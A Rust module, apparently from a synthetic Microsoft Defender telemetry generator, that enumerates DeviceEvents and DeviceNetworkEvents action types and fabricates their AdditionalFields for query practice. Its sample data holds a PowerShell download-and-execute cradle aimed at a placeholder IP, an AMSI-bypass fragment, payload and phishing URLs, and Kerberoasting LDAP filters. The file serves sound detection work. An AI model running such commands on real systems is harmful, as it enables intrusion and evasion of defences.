//! `ActionType` enumerations of the event tables with many of them (DeviceEvents,
//! DeviceNetworkEvents), from Microsoft's published lists, and the `AdditionalFields` each
//! action type carries, drawn in the same row as the action so that
//! `where ActionType == X | extend f = parse_json(AdditionalFields).Key` finds values.

use serde_json::{Value, json};

use super::R;

/// DeviceEvents' action types (the documented enumeration).
pub(super) const DEVICE_EVENTS: &[&str] = &[
    "AmsiScriptDetection",
    "AntivirusDetection",
    "AntivirusDetectionActionType",
    "AntivirusReport",
    "AntivirusScanCancelled",
    "AntivirusScanCompleted",
    "AntivirusScanFailed",
    "AppControlAppInstallationBlocked",
    "AppControlCIScriptAudited",
    "AppControlCIScriptBlocked",
    "AppControlCodeIntegrityDriverRevoked",
    "AppControlCodeIntegrityOriginAudited",
    "AppControlCodeIntegrityPolicyAudited",
    "AppControlCodeIntegrityPolicyBlocked",
    "AppControlCodeIntegrityPolicyLoaded",
    "AppControlCodeIntegritySigningInformation",
    "AppControlExecutableAudited",
    "AppControlExecutableBlocked",
    "AppControlPackagedAppBlocked",
    "AppControlPolicyApplied",
    "AppControlScriptAudited",
    "AppGuardBrowseToUrl",
    "AppGuardCreateContainer",
    "AppGuardStopContainer",
    "AppGuardSuspendContainer",
    "AsrAdobeReaderChildProcessAudited",
    "AsrCustomRuleAudited",
    "AsrExecutableEmailContentAudited",
    "AsrExecutableEmailContentBlocked",
    "AsrExecutableOfficeContentAudited",
    "AsrExecutableOfficeContentBlocked",
    "AsrLsassCredentialTheftAudited",
    "AsrLsassCredentialTheftBlocked",
    "AsrObfuscatedScriptAudited",
    "AsrObfuscatedScriptBlocked",
    "AsrOfficeChildProcessAudited",
    "AsrOfficeChildProcessBlocked",
    "AsrOfficeCommAppChildProcessAudited",
    "AsrOfficeMacroWin32ApiCallsAudited",
    "AsrOfficeProcessInjectionAudited",
    "AsrPersistenceThroughWmiAudited",
    "AsrPsexecWmiChildProcessAudited",
    "AsrPsexecWmiChildProcessBlocked",
    "AsrRansomwareAudited",
    "AsrScriptExecutableDownloadAudited",
    "AsrUntrustedExecutableAudited",
    "AsrUntrustedUsbProcessAudited",
    "AsrUntrustedUsbProcessBlocked",
    "AsrVulnerableSignedDriverAudited",
    "AuditPolicyModification",
    "BluetoothPolicyTriggered",
    "BrowserLaunchedToOpenUrl",
    "ClrUnbackedModuleLoaded",
    "ControlFlowGuardViolation",
    "ControlledFolderAccessViolationAudited",
    "ControlledFolderAccessViolationBlocked",
    "CreateRemoteThreadApiCall",
    "DirectoryServiceObjectCreated",
    "DnsQueryResponse",
    "DpapiAccessed",
    "DriverLoad",
    "ExploitGuardAcgAudited",
    "ExploitGuardAcgEnforced",
    "ExploitGuardChildProcessAudited",
    "ExploitGuardChildProcessBlocked",
    "ExploitGuardLowIntegrityImageAudited",
    "ExploitGuardLowIntegrityImageBlocked",
    "ExploitGuardNetworkProtectionAudited",
    "ExploitGuardNetworkProtectionBlocked",
    "ExploitGuardNonMicrosoftSignedAudited",
    "ExploitGuardNonMicrosoftSignedBlocked",
    "ExploitGuardSharedBinaryAudited",
    "ExploitGuardSharedBinaryBlocked",
    "ExploitGuardWin32SystemCallAudited",
    "ExploitGuardWin32SystemCallBlocked",
    "FirewallInboundConnectionBlocked",
    "FirewallInboundConnectionToAppBlocked",
    "FirewallOutboundConnectionBlocked",
    "FirewallServiceStopped",
    "GetAsyncKeyStateApiCall",
    "GetClipboardData",
    "LdapSearch",
    "LogonRightsSettingEnabled",
    "MemoryRemoteProtect",
    "NamedPipeEvent",
    "NetworkProtectionUserBypassEvent",
    "NetworkShareObjectAdded",
    "NetworkShareObjectDeleted",
    "NtAllocateVirtualMemoryApiCall",
    "NtAllocateVirtualMemoryRemoteApiCall",
    "NtMapViewOfSectionRemoteApiCall",
    "NtProtectVirtualMemoryApiCall",
    "OpenProcessApiCall",
    "OtherAlertRelatedActivity",
    "PnpDeviceAllowed",
    "PnpDeviceBlocked",
    "PnpDeviceConnected",
    "PowerShellCommand",
    "PrintJobBlocked",
    "ProcessCreatedUsingWmiQuery",
    "ProcessPrimaryTokenModified",
    "QueueUserApcRemoteApiCall",
    "ReadProcessMemoryApiCall",
    "RemoteDesktopConnection",
    "RemoteWmiOperation",
    "RemovableStorageFileEvent",
    "RemovableStoragePolicyTriggered",
    "SafeDocFileScan",
    "ScheduledTaskCreated",
    "ScheduledTaskDeleted",
    "ScheduledTaskDisabled",
    "ScheduledTaskEnabled",
    "ScheduledTaskUpdated",
    "ScreenshotTaken",
    "ScriptContent",
    "SecurityGroupCreated",
    "SecurityGroupDeleted",
    "SecurityLogCleared",
    "SensitiveFileRead",
    "ServiceInstalled",
    "SetThreadContextRemoteApiCall",
    "ShellLinkCreateFileEvent",
    "SmartScreenAppWarning",
    "SmartScreenExploitWarning",
    "SmartScreenUrlWarning",
    "SmartScreenUserOverride",
    "TamperingAttempt",
    "UntrustedWifiConnection",
    "UsbDriveDriveLetterChanged",
    "UsbDriveMount",
    "UsbDriveMounted",
    "UsbDriveUnmount",
    "UsbDriveUnmounted",
    "UserAccountAddedToLocalGroup",
    "UserAccountCreated",
    "UserAccountDeleted",
    "UserAccountModified",
    "UserAccountRemovedFromLocalGroup",
    "WmiBindEventFilterToConsumer",
    "WriteProcessMemoryApiCall",
    "WriteToLsassProcessMemory",
];

/// DeviceNetworkEvents' action types, weighted by how often they occur.
pub(super) const NETWORK_EVENTS: &[&str] = &[
    "ConnectionSuccess",
    "ConnectionSuccess",
    "ConnectionSuccess",
    "ConnectionSuccess",
    "ConnectionSuccess",
    "ConnectionSuccess",
    "ConnectionFailed",
    "ConnectionFailed",
    "ConnectionRequest",
    "ConnectionRequest",
    "ConnectionAttempt",
    "ConnectionAcknowledged",
    "ConnectionFound",
    "InboundConnectionAccepted",
    "InboundConnectionAccepted",
    "ListeningConnectionCreated",
    "HttpConnectionInspected",
    "HttpConnectionInspected",
    "DnsConnectionInspected",
    "SslConnectionInspected",
    "SslConnectionInspected",
    "SshConnectionInspected",
    "IcmpConnectionInspected",
    "NetworkSignatureInspected",
    "NetworkSignatureInspected",
    "FtpConnectionInspected",
    "SmtpConnectionInspected",
];

const THREATS: &[&str] = &[
    "Trojan:Win32/Wacatac.B!ml",
    "HackTool:Win32/Mimikatz.D",
    "Behavior:Win32/SuspRemoteCopy.B",
    "Ransom:Win32/LockBit.PA!MTB",
    "Trojan:PowerShell/Powersploit.M",
    "TrojanDownloader:O97M/Donoff.SR",
    "PUA:Win32/Presenoker",
    "Exploit:Win32/CVE-2021-40444!MSR",
    "Backdoor:Win32/CobaltStrike.C",
    "HackTool:Win32/AutoKMS",
    "Trojan:Script/Wacatac.H!ml",
    "EICAR_Test_File",
];

const ASR_RULES: &[&str] = &[
    "d4f940ab-401b-4efc-aadc-ad5f3c50688a",
    "9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2",
    "3b576869-a4ec-4529-8536-b80a7769e899",
    "75668c1f-73b5-4cf0-bb93-3ecf5cb7cc84",
    "be9ba2d9-53ea-4cdc-84e5-9b1eeee46550",
    "d3e037e1-3eb8-44c8-a917-57927947596d",
    "5beb7efe-fd9a-4556-801d-275e5ffc04cc",
    "92e97fa1-2edf-4476-bdd6-9dd0b4dddc7b",
    "01443614-cd74-433a-b99e-2ecdc07bfc25",
    "c1db55ab-c21a-4637-bb3f-a12568109d35",
    "d1e49aac-8f56-4280-b9ba-993a6d77406c",
    "b2b3f03d-6a65-4f7b-a9c7-1c7ef74a9ba4",
    "26190899-1602-49e8-8b27-eb1d0a1ce869",
    "7674ba52-37eb-4a4f-a9a1-f0f9a1619a2c",
    "e6db77e5-3df2-4cf1-b95a-636979351e5b",
    "56a863a9-875e-4185-98a7-b882c64b5ce5",
];

const PS_COMMANDS: &[&str] = &[
    "Get-Process",
    "Invoke-WebRequest",
    "Invoke-Expression",
    "Set-MpPreference",
    "Add-MpPreference",
    "Get-ADUser",
    "Get-ADComputer",
    "Get-ADGroupMember",
    "New-Object",
    "Start-BitsTransfer",
    "Invoke-Mimikatz",
    "Get-WmiObject",
    "Invoke-Command",
    "Compress-Archive",
    "Import-Module",
    "Get-ChildItem",
    "Remove-Item",
    "Set-ItemProperty",
    "New-ItemProperty",
    "Get-Credential",
    "Invoke-RestMethod",
    "Get-LocalGroupMember",
    "Stop-Service",
    "Get-NetTCPConnection",
    "Out-File",
];

const URIS: &[&str] = &[
    "http://198.51.100.7/payload.bin",
    "https://contoso-login.example-phish.com/owa/auth",
    "http://203.0.113.50/update.hta",
    "https://pastebin.com/raw/8xkR2pLq",
    "https://raw.githubusercontent.com/example/tools/main/run.ps1",
    "https://bit.ly/3xYzAbC",
    "https://drive.google.com/uc?id=1aBcD&export=download",
    "https://cdn.discordapp.com/attachments/1/2/invoice.zip",
    "https://files.example-cdn.net/setup.exe",
    "http://free-gift-cards.example.net/claim",
];

const TASKS: &[&str] = &[
    r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan",
    r"\Updater",
    r"\OneDrive Sync",
    r"\GoogleUpdateTaskMachineUA",
    r"\Microsoft\Windows\Defrag\ScheduledDefrag",
    r"\Sync",
    r"\Adobe Acrobat Update Task",
];

const GROUPS: &[&str] = &["Administrators", "Remote Desktop Users", "Backup Operators", "Users"];

fn v(r: &R, salt: u64, items: &[&'static str]) -> &'static str {
    items[(r.h(salt) % items.len() as u64) as usize]
}

/// The `AdditionalFields` of a DeviceEvents row whose action is `action` (`None`: no fields).
pub(super) fn device_event_fields(r: &R, action: &str) -> Option<Value> {
    let audit = action.ends_with("Audited");
    let f = match action {
        "AntivirusDetection" | "AntivirusReport" | "AntivirusDetectionActionType" => json!({
            "ThreatName": v(r, 201, THREATS),
            "WasRemediated": !r.h(202).is_multiple_of(4),
            "WasExecutingWhileDetected": r.h(203).is_multiple_of(3),
            "Action": v(r, 204, &["quarantine", "remove", "clean", "allow", "block"]),
            "ReportSource": v(r, 205, &["Real-Time Protection", "Scheduled Scan", "On-Demand Scan", "IOAV"]),
            "Container": "",
        }),
        "AmsiScriptDetection" | "ScriptContent" => json!({
            "Description": v(r, 201, THREATS),
            "ScriptContent": v(r, 206, &["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "Get-ADUser -Filter *"]),
        }),
        a if a.starts_with("AntivirusScan") => json!({
            "Domain": "CONTOSO", "ScanTypeIndex": (r.h(207) % 3) as i64 + 1,
            "ScanParametersIndex": (r.h(208) % 2) as i64 + 1, "User": r.iacct.name,
            "ScanId": format!("{{{}}}", super::guid(r.h(209)).to_uppercase()),
        }),
        a if a.starts_with("Asr") || a.starts_with("ControlledFolderAccess") => json!({
            "IsAudit": audit, "RuleId": v(r, 210, ASR_RULES),
        }),
        a if a.starts_with("ExploitGuardNetworkProtection")
            || a == "NetworkProtectionUserBypassEvent" =>
        {
            json!({
                "IsAudit": audit,
                "ResponseCategory": v(r, 211, &["CustomBlockList", "CustomPolicy", "WebContentFiltering", "CmdCtrl", "Malicious", "Phishing"]),
                "DisplayName": v(r, 212, &["Phishing", "Malicious", "Gambling", "Custom indicator", "Command and Control"]),
                "Uri": v(r, 213, URIS),
            })
        }
        a if a.starts_with("ExploitGuard") => json!({"IsAudit": audit}),
        a if a.starts_with("SmartScreen") => json!({
            "Experience": v(r, 214, &["Malicious", "Phishing", "Untrusted", "CustomBlockList", "CustomPolicy"]),
            "Action": "UserOverride", "Uri": v(r, 213, URIS),
            // A warning and the user's override of it share the device's activity id.
            "ActivityId": super::guid(super::str_seed(r.device().name) ^ (r.h(290) % 3)),
        }),
        "PowerShellCommand" => json!({"Command": v(r, 215, PS_COMMANDS)}),
        "AntivirusTroubleshootModeEvent" => {
            let on = r.h(280).is_multiple_of(2);
            json!({
                "TroubleshootingState": if on { "Enabled" } else { "Disabled" },
                "TroubleshootingPreviousState": if on { "Disabled" } else { "Enabled" },
                "TroubleshootingStartTime": "2026-11-20T09:12:44Z",
                "TroubleshootingStateExpiry": "2026-11-20T12:12:44Z",
                "TroubleshootingStateRemainingMinutes": if on { (r.h(281) % 180) as i64 } else { 0 },
                "TroubleshootingStateChangeReason": if on { "Started" } else { "Expired" },
                "TroubleshootingStateChangeSource": "Microsoft Defender for Endpoint portal",
            })
        }
        "DeviceBootAttestationInfo" => json!({
            "IsSecureBootOn": !r.h(282).is_multiple_of(8), "IsHvciOn": r.h(283).is_multiple_of(2),
            "IsVsmOn": !r.h(284).is_multiple_of(3), "IsIommuOn": true, "TpmVersion": "2.0",
            "SystemGuardSecurityLevel": v(r, 285, &["0", "1", "2"]), "IsDriverCodeIntegrityEnforced": true,
            "IsElamDriverLoaded": true, "ValidationResult": v(r, 286, &["Success", "Success", "Failed"]),
        }),
        "AntivirusDefinitionsUpdated"
        | "AntivirusDefinitionsUpdateFailed"
        | "AntivirusEmergencyUpdatesInstalled"
        | "AntivirusError" => json!({
            "CurrentSignatureVersion": "1.421.1234.0", "PreviousSignatureVersion": "1.421.1180.0",
            "EngineVersion": "1.1.24090.11", "ProductVersion": "4.18.24090.11",
        }),
        "OtherAlertRelatedActivity" => json!({
            "Description": v(r, 287, &["Suspicious process injection was observed", "A process accessed the memory of lsass.exe", "An unsigned binary was executed from a temporary folder", "Microsoft Defender Antivirus quarantined a file found in the user's Downloads folder"]),
        }),
        "ScheduledTaskCreated"
        | "ScheduledTaskUpdated"
        | "ScheduledTaskDeleted"
        | "ScheduledTaskEnabled"
        | "ScheduledTaskDisabled" => {
            let name = v(r, 216, TASKS);
            json!({
                "TaskName": name,
                "TaskContent": format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions><Exec><Command>{}</Command></Exec></Actions></Task>", super::init_cmd_text(r)),
                "SubjectUserName": r.iacct.name, "SubjectDomainName": r.iacct.domain,
            })
        }
        "UsbDriveMounted"
        | "UsbDriveMount"
        | "UsbDriveUnmounted"
        | "UsbDriveUnmount"
        | "UsbDriveDriveLetterChanged" => json!({
            "DriveLetter": v(r, 217, &["E:", "F:", "G:"]),
            "ProductName": v(r, 218, &["SanDisk Ultra", "Kingston DataTraveler 3.0", "WD My Passport 25E2", "Generic Flash Disk"]),
            "SerialNumber": super::hex(r.h(219), 12).to_uppercase(),
            "Manufacturer": v(r, 220, &["SanDisk", "Kingston", "Western Digital", "Generic"]),
            "Volume": format!("{{{}}}", super::guid(r.h(221))), "LoggedOnUsers": r.acct.name,
        }),
        "PnpDeviceConnected" | "PnpDeviceAllowed" | "PnpDeviceBlocked" => json!({
            "ClassName": v(r, 222, &["USB", "DiskDrive", "WPD", "Bluetooth", "Image", "Media"]),
            "DeviceDescription": v(r, 223, &["USB Mass Storage Device", "Apple iPhone", "Logitech USB Receiver", "Generic Bluetooth Adapter"]),
            "DeviceId": format!(r"USB\VID_0781&PID_5581\{}", super::hex(r.h(224), 12).to_uppercase()),
            "VendorIds": "USB\\VID_0781&PID_5581",
        }),
        "LdapSearch" => json!({
            "SearchFilter": v(r, 225, &["(objectCategory=computer)", "(&(objectCategory=person)(objectClass=user)(servicePrincipalName=*))", "(&(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))", "(objectClass=trustedDomain)", "(&(objectCategory=group)(cn=Domain Admins))", "(sAMAccountName=jsmith)"]),
            "ScopeOfSearch": v(r, 226, &["SubTree", "Base", "OneLevel"]),
            "DistinguishedName": "DC=contoso,DC=com", "AttributeList": "[\"samaccountname\",\"serviceprincipalname\"]",
        }),
        "NamedPipeEvent" => json!({
            "PipeName": v(r, 227, &[r"\Device\NamedPipe\lsarpc", r"\Device\NamedPipe\srvsvc", r"\Device\NamedPipe\PSEXESVC", r"\Device\NamedPipe\atsvc", r"\Device\NamedPipe\mojo.1234.5678"]),
            "FileOperation": v(r, 228, &["File opened", "File created"]), "NamedPipeEnd": "Client",
            "DesiredAccess": 1_180_063, "ShareMode": 3,
        }),
        "DnsQueryResponse" => json!({
            "DnsQueryString": v(r, 229, &["login.microsoftonline.com", "raw.githubusercontent.com", "pastebin.com", "x3k9q.ngrok-free.app", "dc01.contoso.com"]),
            "DnsQueryResult": [{"DnsQueryType": 1, "DnsQueryTypeString": "A", "DnsQueryResultRecord": "203.0.113.50"}],
        }),
        "BrowserLaunchedToOpenUrl" | "AppGuardBrowseToUrl" => {
            json!({"Name": "browser", "Uri": v(r, 213, URIS)})
        }
        "UserAccountCreated" | "UserAccountDeleted" | "UserAccountModified" => {
            json!({"TargetUserName": v(r, 230, &["backdoor", "helpdesk2", "svc_sql", "temp_admin"])})
        }
        "UserAccountAddedToLocalGroup" | "UserAccountRemovedFromLocalGroup" => json!({
            "GroupName": v(r, 231, GROUPS), "GroupDomainName": "BUILTIN",
            "GroupSid": v(r, 232, &["S-1-5-32-544", "S-1-5-32-555", "S-1-5-32-551", "S-1-5-32-545"]),
        }),
        "ServiceInstalled" => json!({
            "ServiceName": v(r, 233, &["PSEXESVC", "UpdaterSvc", "AnyDesk", "MpKsl1a2b3c", "TeamViewer"]),
            "ServiceAccount": "LocalSystem", "ServiceType": "user mode service", "ServiceStartType": 2,
        }),
        "ProcessCreatedUsingWmiQuery" | "RemoteWmiOperation" => json!({
            "WmiCommandLine": super::init_cmd_text(r), "Namespace": "root\\cimv2", "IsLocal": !r.h(234).is_multiple_of(3),
        }),
        "WmiBindEventFilterToConsumer" => json!({
            "Namespace": "root\\subscription", "ConsumerName": "SCM Event Log Consumer",
            "ESSConsumer": "CommandLineEventConsumer", "PossibleCause": "Permanent",
        }),
        a if a.ends_with("ApiCall")
            || a == "WriteToLsassProcessMemory"
            || a == "MemoryRemoteProtect" =>
        {
            json!({
                "TargetProcess": v(r, 235, &["lsass.exe", "explorer.exe", "svchost.exe", "notepad.exe"]),
                "TotalBytesCopied": (r.h(236) % 65_536) as i64, "DesiredAccess": 0x1410,
            })
        }
        "FirewallInboundConnectionBlocked"
        | "FirewallOutboundConnectionBlocked"
        | "FirewallInboundConnectionToAppBlocked" => json!({
            "Profiles": v(r, 237, &["Domain", "Private", "Public"]),
            "Direction": if action.contains("Outbound") { "Outbound" } else { "Inbound" },
        }),
        "TamperingAttempt" => json!({
            "TamperingAction": v(r, 238, &["RegistryModification", "ServiceStop", "ProcessTermination"]),
            "Status": v(r, 239, &["Blocked", "Audited"]),
            "Target": v(r, 240, &["HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "WinDefend", "MsMpEng.exe"]),
        }),
        "UntrustedWifiConnection" => {
            json!({"SSID": v(r, 241, &["Free_Airport_WiFi", "CoffeeShop-Guest", "Hotel Lobby"]), "AuthenticationAlgorithm": "Open", "Reason": "Wi-Fi network open"})
        }
        "RemoteDesktopConnection" => json!({"RemoteDeviceName": r.device_after(2).name}),
        "SensitiveFileRead" => {
            json!({"FileName": v(r, 242, &["Login Data", "Cookies", "key3.db", "ntds.dit", "id_rsa"])})
        }
        "AuditPolicyModification" => {
            json!({"AuditPolicyChanges": "%%8448", "SubcategoryGuid": "{0CCE922B-69AE-11D9-BED3-505054503030}"})
        }
        "DpapiAccessed" => {
            json!({"DataDescription": "Google Chrome", "OperationType": "SPCryptUnprotect"})
        }
        "DriverLoad" => {
            json!({"DriverName": v(r, 243, &["RTCore64.sys", "procexp152.sys", "WdFilter.sys", "gdrv.sys"])})
        }
        "ShellLinkCreateFileEvent" => {
            json!({"ShellLinkIconPath": "%SystemRoot%\\System32\\shell32.dll", "ShellLinkWorkingDirectory": "C:\\Users\\Public"})
        }
        "BluetoothPolicyTriggered" | "RemovableStoragePolicyTriggered" | "PrintJobBlocked" => {
            json!({"PolicyRuleId": super::guid(r.h(244)), "Accesses": v(r, 245, &["Read", "Write", "Execute"])})
        }
        _ => return None,
    };
    Some(f)
}

/// The `AdditionalFields` of a DeviceNetworkEvents row whose action is `action`: the Zeek-like
/// keys of network inspection, `None` for plain connection events.
pub(super) fn network_fields(r: &R, action: &str) -> Option<Value> {
    let dir = if r.h(250).is_multiple_of(3) { "In" } else { "Out" };
    let f = match action {
        "HttpConnectionInspected" => json!({
            "direction": dir,
            "host": v(r, 251, &["raw.githubusercontent.com", "198.51.100.7", "update.example-cdn.net", "pastebin.com", "ctldl.windowsupdate.com"]),
            "method": v(r, 252, &["GET", "GET", "POST", "PUT"]),
            "uri": v(r, 253, &["/payload.bin", "/raw/8xkR2pLq", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "/api/v1/beacon", "/index.php?id=42"]),
            "user_agent": v(r, 254, &["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Microsoft-CryptoAPI/10.0", "curl/8.9.1", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996", "python-requests/2.32.3", "Microsoft BITS/7.8"]),
            "status_code": v(r, 255, &["200", "200", "404", "302"]).parse::<i64>().unwrap_or(200),
            "request_body_len": (r.h(256) % 4096) as i64, "response_body_len": (r.h(257) % 2_000_000) as i64,
            "version": "1.1",
        }),
        "DnsConnectionInspected" => json!({
            "direction": dir,
            "query": v(r, 258, &["login.microsoftonline.com", "x3k9q.ngrok-free.app", "dc01.contoso.com", "aGVsbG8.example-cdn.net", "pastebin.com"]),
            "qtype_name": v(r, 259, &["A", "AAAA", "TXT", "SRV"]), "rcode_name": "NOERROR",
            "answers": ["203.0.113.50"], "uid": super::hex(r.h(260), 18),
        }),
        "SslConnectionInspected" => json!({
            "direction": dir,
            "server_name": v(r, 261, &["login.microsoftonline.com", "github.com", "x3k9q.ngrok-free.app", "api.telegram.org", "outlook.office365.com"]),
            "version": v(r, 262, &["TLSv12", "TLSv13", "TLSv10"]),
            "ja3": super::hex(r.h(263) % 8, 32), "ja3s": super::hex(r.h(264) % 8, 32),
            "established": true, "cipher": "TLS_AES_256_GCM_SHA384",
        }),
        "SshConnectionInspected" => json!({
            "direction": dir, "auth_success": !r.h(265).is_multiple_of(3),
            "auth_attempts": (r.h(266) % 6) as i64 + 1,
            "client": v(r, 267, &["SSH-2.0-OpenSSH_for_Windows_9.5", "SSH-2.0-PuTTY_Release_0.81", "SSH-2.0-libssh2_1.11.0"]),
            "server": "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "version": 2,
        }),
        "IcmpConnectionInspected" | "FtpConnectionInspected" | "SmtpConnectionInspected" => json!({
            "direction": dir, "orig_bytes": (r.h(268) % 10_000) as i64,
            "resp_bytes": (r.h(269) % 10_000) as i64, "duration": "00:00:00.0150000",
        }),
        "NetworkSignatureInspected" => json!({
            "SignatureName": v(r, 270, &["SSH", "RDP", "SMB", "HTTP_Client", "HTTP_Server", "DNS_Request", "Kerberos", "LDAP", "SSL", "FTP", "RDP_Brute_Force", "Log4j_Exploit_Attempt"]),
            "SignatureMatchedContent": "", "SamplePacketContent": "",
        }),
        "ConnectionSuccess" | "ConnectionAcknowledged" | "InboundConnectionAccepted"
            if r.h(271).is_multiple_of(3) =>
        {
            json!({
                "direction": if action == "InboundConnectionAccepted" { "In" } else { "Out" },
                "orig_bytes": (r.h(268) % 5_000_000) as i64, "resp_bytes": (r.h(269) % 50_000_000) as i64,
                "duration": format!("00:00:{:02}.{:07}", r.h(272) % 60, r.h(273) % 10_000_000),
                "conn_state": "SF",
            })
        }
        _ => return None,
    };
    Some(f)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn enumerations_are_distinct_names() {
        let mut seen = std::collections::HashSet::new();
        for a in DEVICE_EVENTS {
            assert!(seen.insert(a), "{a} twice");
            assert!(a.chars().all(|c| c.is_ascii_alphanumeric()), "{a}");
        }
        assert!(DEVICE_EVENTS.len() > 120);
        assert!(NETWORK_EVENTS.contains(&"SslConnectionInspected"));
    }
}
